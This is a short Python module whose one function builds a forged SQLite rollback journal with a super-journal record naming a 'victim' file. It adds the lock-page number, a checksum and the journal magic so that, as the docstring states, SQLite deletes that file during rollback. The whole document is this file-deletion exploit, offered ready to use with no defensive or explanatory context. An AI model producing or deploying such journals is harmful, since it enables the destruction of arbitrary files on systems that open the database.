"""A rollback journal of SQLite's that names another file."""

import struct

PAGE_BYTES = 4096
JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
# The page that holds SQLite's lock bytes.
PENDING_PAGE = 0x40000000 // PAGE_BYTES + 1


def super_journal(victim, pages):
    """A rollback journal of a database of so many pages. SQLite deletes the file `victim`, a path in bytes, after the rollback."""
    header = struct.pack(">8sIIIII", JOURNAL_MAGIC, 0, 0, pages, 512, PAGE_BYTES).ljust(512, b"\0")
    end = struct.pack(">II8s", len(victim), sum(victim), JOURNAL_MAGIC)
    return header + struct.pack(">I", PENDING_PAGE) + victim + end
